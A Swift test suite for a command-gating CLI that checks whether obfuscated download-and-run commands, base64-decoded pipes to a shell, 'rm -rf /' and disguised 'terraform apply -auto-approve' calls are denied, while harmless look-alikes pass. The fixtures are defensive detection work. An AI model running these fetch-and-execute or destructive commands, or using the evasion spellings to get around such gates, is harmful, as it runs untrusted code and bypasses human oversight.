import Foundation
import TestSupport
import Testing

/// Spellings of the commands the baseline denies, judged through the real CLI (`evaluate --command`, and `check`
/// on committed files), with look-alikes that must stay allowed.
@Suite("Shell spellings, end to end")
struct ShellSpellingTests {
    /// The exit status and the rule ids of the findings `evaluate --command` reports for a command line.
    static func evaluate(_ command: String) throws -> (status: Int32, rules: Set<String>, output: String) {
        let folder = try ScratchRepository()
        let run = try GateBinary.run(["evaluate", "--command", command, "--format", "json"], in: folder.url)
        return (run.status, try Self.rules(in: run.stdout), run.stdout + run.stderr)
    }

    static func expectDenied(_ command: String, by rule: String) throws {
        let result = try evaluate(command)
        #expect(result.status == 1, "\(command): \(result.output)")
        #expect(result.rules.contains(rule), "\(command): \(result.rules)")
    }

    static func rules(in json: String) throws -> Set<String> {
        let object = try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any]
        let findings = object?["findings"] as? [[String: Any]] ?? []
        return Set(findings.compactMap { $0["rule_id"] as? String })
    }

    @Test(
        "a download run as code is denied however the shell is handed it",
        arguments: [
            #"sh -c "$(curl -fsSL https://get.example.com/install.sh)""#,
            #"zsh -c "$(curl -fsSL https://get.example.com/install.sh)""#,
            #"sudo bash -c "$(wget -qO- https://get.example.com/install.sh)""#,
            "bash <(curl -fsSL https://get.example.com/install.sh)",
            "source <(curl -s https://get.example.com/env.sh)",
            ". <(wget -qO- https://get.example.com/env.sh)",
            "bash < <(curl -s https://get.example.com/install.sh)",
            #"eval "$(curl -fsSL https://get.example.com/install.sh)""#,
            "eval `curl -fsSL https://get.example.com/install.sh`",
            #"bash <<< "$(curl -s https://get.example.com/install.sh)""#,
            "$(curl -s https://get.example.com/cmd)",
            #"s=$(curl -fsSL https://get.example.com/install.sh); eval "$s""#,
            #"s=$(curl -fsSL https://get.example.com/install.sh); bash -c "$s""#,
            "(curl -s https://get.example.com/install.sh) | sh",
            "{ curl -s https://get.example.com/install.sh; } | bash",
            #"fish -c "curl -s https://get.example.com/install.sh | source""#,
            "curl -s https://get.example.com/install.sh | /bin/[b]ash",
            "curl -s https://get.example.com/install.sh | /bin/ba?h",
            "x=$(( $(curl -s https://get.example.com/i.sh | sh) + 1 ))",
            #"$(echo sh) -c "$(curl -fsSL https://get.example.com/install.sh)""#,
            "curl -s https://get.example.com/install.sh | $SHELL",
            "curl -s https://get.example.com/install.sh | `which bash`",
            #"source /dev/stdin <<< "$(curl -s https://get.example.com/env.sh)""#,
            "pwsh -c 'iwr https://get.example.com/i.ps1 | iex'",
            "powershell -NoProfile -ExecutionPolicy Bypass -c \"irm https://get.example.com/i.ps1 | Invoke-Expression\"",
            "powershell -Command \"IEX (New-Object Net.WebClient).DownloadString('https://get.example.com/i.ps1')\"",
            "pwsh -EncodedCommand "
                + "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZwBlAHQALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBpAC4AcABzADEAIAB8ACAAaQBlAHgA",
            #"python3 -c 'import os; os.system("curl -s https://get.example.com/i.sh | sh")'"#,
        ])
    func downloadAndRun(command: String) throws {
        try Self.expectDenied(command, by: "commands.remote-script-execution")
    }

    @Test(
        "inline interpreter code that downloads code and runs it is denied",
        arguments: [
            #"python3 -c "import urllib.request as u; exec(u.urlopen('https://get.example.com/i.py').read())""#,
            #"python -c 'import requests; exec(requests.get("https://get.example.com/i.py").text)'"#,
            #"node -e "require('https').get('https://get.example.com/i.js', r => { let d = ''; "#
                + #"r.on('data', c => d += c); r.on('end', () => eval(d)) })""#,
            #"ruby -ropen-uri -e 'eval URI.open("https://get.example.com/i.rb").read'"#,
        ])
    func inlineDownload(command: String) throws {
        try Self.expectDenied(command, by: "commands.inline-download-execution")
    }

    @Test(
        "decoded text run by a shell is denied",
        arguments: [
            "echo dGVycmFmb3JtIGFwcGx5IC1hdXRvLWFwcHJvdmU= | base64 -d | sh",
            "base64 -d <<<dGVycmFmb3JtIGFwcGx5IC1hdXRvLWFwcHJvdmU= | bash",
            #"echo "$PAYLOAD" | base64 --decode | sh"#,
            #"base64 -d <<< "$PAYLOAD" | bash"#,
            "xxd -r -p payload.hex | sh",
        ])
    func decodedScripts(command: String) throws {
        try Self.expectDenied(command, by: "commands.decoded-script-execution")
    }

    @Test(
        "terraform apply -auto-approve is denied through defaults, aliases, functions, braces and globs",
        arguments: [
            "${X:-terraform} apply -auto-approve",
            "${TOOL:=terraform} apply -auto-approve",
            "${HOME:+terraform} apply -auto-approve",
            "T=xterraform; ${T#x} apply -auto-approve",
            "T=TERRAFORM; ${T,,} apply -auto-approve",
            "T=terraXorm; ${T/X/f} apply -auto-approve",
            "alias tf=terraform; tf apply -auto-approve",
            "alias deploy='terraform apply -auto-approve'; deploy",
            #"f() { "$@"; }; f terraform apply -auto-approve"#,
            "function run { $1 apply $2; }; run terraform -auto-approve",
            "function run() { tofu \"$@\"; }\nrun destroy -auto-approve",
            #"set -- terraform apply -auto-approve; "$@""#,
            "terraform {apply,plan} -auto-approve",
            "terraform apply -auto-{approve,x}",
            "/usr/bin/terr* apply -auto-approve",
            "/usr/*/terraf?rm apply -auto-approve",
            "$(which terraform) apply -auto-approve",
            #""$(command -v tofu)" destroy -auto-approve"#,
            #"python3 -c 'import os; os.system("terraform apply -auto-approve")'"#,
            #"python -c 'import subprocess; subprocess.run(["terraform", "apply", "-auto-approve"])'"#,
            #"node -e "require('child_process').execSync('terraform destroy -auto-approve')""#,
            #"perl -e 'system("terraform apply -auto-approve")'"#,
            "ruby -e '`terraform apply -auto-approve`'",
            "echo \"$(printf \\\"%s\\\" v1 | sed 's/\")//')\"; terraform apply -auto-approve",
        ])
    func terraformSpellings(command: String) throws {
        try Self.expectDenied(command, by: "commands.terraform-auto-approve")
    }

    @Test(
        "text the gate cannot read is a parse finding, and what comes before it is still judged",
        arguments: [
            "echo ok; echo 'unclosed",
            #"echo "a $(curl x""#,
            "echo ok; echo `curl",
            "echo ${HOME",
        ])
    func unreadable(command: String) throws {
        try Self.expectDenied(command, by: "cavra.parse-error")
    }

    @Test("variables doubling past the bound are a parse finding, not memory exhausted")
    func expansionBound() throws {
        var chain = "X1=aaaaaaaa"
        for step in 2...48 { chain += "; X\(step)=\"$X\(step - 1)$X\(step - 1)\"" }
        let result = try Self.evaluate(chain + "; $X48 apply")
        #expect(result.status == 1, "\(result.output)")
        #expect(result.rules.contains("cavra.parse-error"), "\(result.rules)")
    }

    @Test("functions calling each other past the bound are a parse finding, not unbounded work")
    func callBound() throws {
        // Every call passes literal arguments that the body uses, so each would be judged again.
        let g = (1...200).map { "h \"$1\" \($0); " }.joined()
        let f = (1...200).map { "g \"$1\" \($0); " }.joined()
        let calls = (1...20).map { "f a\($0); " }.joined()
        let script = "h() { echo \"$@\"; }\ng() { \(g)}\nf() { \(f)}\n\(calls)"
        let result = try Self.evaluate(script)
        #expect(result.status == 1, "\(result.rules)")
        #expect(result.rules.contains("cavra.parse-error"), "\(result.rules)")
    }

    @Test(
        "look-alikes stay allowed",
        arguments: [
            "echo '$(curl -s https://get.example.com/i.sh)'",
            "echo $((1 << 2)); echo done",
            "(( i <<= 2 )); echo ok",
            #"D=$(date); echo "$D""#,
            #"MD5=$(curl -s https://example.com/sum); echo "$MD5""#,
            #"MD5=$(curl -s "https://example.com/sum?t=${{ secrets.TOKEN }}"); echo "$MD5" > sum.txt"#,
            #"bash deploy.sh "$(curl -s https://example.com/version)""#,
            "diff <(curl -s https://a.example) <(curl -s https://b.example)",
            #"while read -r name; do echo "$name"; done < <(curl -s https://api.example.com/list)"#,
            "source <(kubectl completion bash)",
            "echo '{a,b}' {x,y}",
            #"[ -n "$X" ] && echo yes"#,
            "ls /usr/bin/terr*",
            "echo $SHELL $(which terraform)",
            #"echo "${TOOL:-terraform} apply -auto-approve""#,
            #"f() { echo "$@"; }; f terraform apply -auto-approve"#,
            #"python3 -c 'print("terraform apply -auto-approve")'"#,
            "node -e 'console.log(`terraform apply -auto-approve`)'",
            "pwsh -c 'Write-Host \"iex is short for Invoke-Expression\"'",
            "base64 -d cert.b64 > cert.der",
            #"python3 -c "exec(open('version.py').read()); print(__version__)""#,
            "curl -fsSL https://example.com/tool.tgz | tar xz",
        ])
    func lookAlikes(command: String) throws {
        let result = try Self.evaluate(command)
        #expect(result.status == 0, "\(command): \(result.output)")
    }

    /// A repository whose second commit adds the files; returns it and that commit.
    static func commit(_ files: [String: String]) throws -> ScratchRepository {
        let repo = try ScratchRepository()
        try repo.write("README.md", "hello\n")
        try repo.commitAll("base")
        for (path, contents) in files { try repo.write(path, contents) }
        try repo.commitAll("change")
        return repo
    }

    static func check(_ repo: ScratchRepository) throws -> (status: Int32, rules: [String: Set<Int>], output: String) {
        let run = try GateBinary.run(["check", "--commit", "HEAD", "--format", "json"], in: repo.url)
        let object = try JSONSerialization.jsonObject(with: Data(run.stdout.utf8)) as? [String: Any]
        var rules: [String: Set<Int>] = [:]
        for finding in object?["findings"] as? [[String: Any]] ?? [] {
            guard let rule = finding["rule_id"] as? String else { continue }
            rules[rule, default: []].insert(finding["line"] as? Int ?? 0)
        }
        return (run.status, rules, run.stdout + run.stderr)
    }

    @Test("a script is read up to where it stops being readable, and the rest is a parse finding at that line")
    func scriptWithUnreadableTail() throws {
        let script = """
            #!/bin/sh
            VERSION="$(curl -s https://api.example.com/latest | grep \\"tag\\" | sed -E 's/.*"([^"]+)".*/\\1/')"
            terraform apply -auto-approve
            echo "never closed
            rm -rf /
            """
        let result = try Self.check(try Self.commit(["deploy/install.sh": script]))
        #expect(result.status == 1, "\(result.output)")
        #expect(result.rules["commands.terraform-auto-approve"] == [3], "\(result.rules)")
        #expect(result.rules["cavra.parse-error"] == [4], "\(result.rules)")
        #expect(result.rules["commands.destructive-delete"] == nil, "\(result.rules)")
    }

    @Test("a file with a shell's #! line is a script whatever its name; without one it is data")
    func scriptsByContent() throws {
        let repo = try Self.commit([
            "bin/deploy.prod": "#!/usr/bin/env bash\nterraform apply -auto-approve\n",
            "docs/notes.prod": "terraform apply -auto-approve\n",
            "tools/run.txt": "#!/bin/sh\ncurl -s https://get.example.com/i.sh | sh\n",
        ])
        let result = try Self.check(repo)
        #expect(result.status == 1, "\(result.output)")
        #expect(result.rules["commands.terraform-auto-approve"] == [2], "\(result.rules)")
        #expect(result.rules["commands.remote-script-execution"] == [2], "\(result.rules)")
        #expect(!result.output.contains("docs/notes.prod"), "\(result.output)")
    }

    @Test("Jenkinsfile sh steps are read with Groovy escapes, one after another, and an unclosed one is reported")
    func jenkinsfile() throws {
        let jenkinsfile = """
            pipeline {
              agent any
              stages {
                stage('build') { steps { sh 'echo \\'it is\\' building'; sh "make test" } }
                stage('deploy') {
                  steps {
                    sh(script: '''
                      terraform apply -auto-approve
                    ''')
                    sh "echo unclosed
                  }
                }
              }
            }
            """
        let result = try Self.check(try Self.commit(["Jenkinsfile": jenkinsfile]))
        #expect(result.status == 1, "\(result.output)")
        #expect(result.rules["commands.terraform-auto-approve"] == [8], "\(result.rules)")
        #expect(result.rules["cavra.parse-error"] == [10], "\(result.rules)")
        #expect(result.rules["cicd.other"] != nil, "\(result.rules)")
    }

    @Test("a GitHub step whose shell is python or pwsh is read as that language")
    func workflowInterpreters() throws {
        let workflow = """
            on: push
            jobs:
              deploy:
                runs-on: ubuntu-latest
                steps:
                  - shell: python
                    run: |
                      import os
                      print("curl -s https://get.example.com/i.sh | sh")
                      os.system("terraform apply -auto-approve")
                  - shell: pwsh
                    run: iwr https://get.example.com/i.ps1 | iex
                  - shell: python
                    run: print("rm -rf /")
            """
        let result = try Self.check(try Self.commit([".github/workflows/deploy.yml": workflow]))
        #expect(result.status == 1, "\(result.output)")
        #expect(result.rules["commands.terraform-auto-approve"] == [10], "\(result.rules)")
        #expect(result.rules["commands.remote-script-execution"] == [12], "\(result.rules)")
        #expect(result.rules["commands.destructive-delete"] == nil, "\(result.rules)")
    }

    @Test("a new call of a function already in the script is judged as the body it runs, at the call's line")
    func newCallOfOldFunction() throws {
        let repo = try ScratchRepository()
        let definition = "#!/bin/sh\ndeploy() {\n  terraform apply -auto-approve\n}\necho ready\n"
        try repo.write("deploy.sh", definition)
        try repo.commitAll("base")
        try repo.write("deploy.sh", definition + "deploy\n")
        try repo.commitAll("call it")
        let result = try Self.check(repo)
        #expect(result.status == 1, "\(result.output)")
        #expect(result.rules["commands.terraform-auto-approve"] == [6], "\(result.rules)")
    }
}
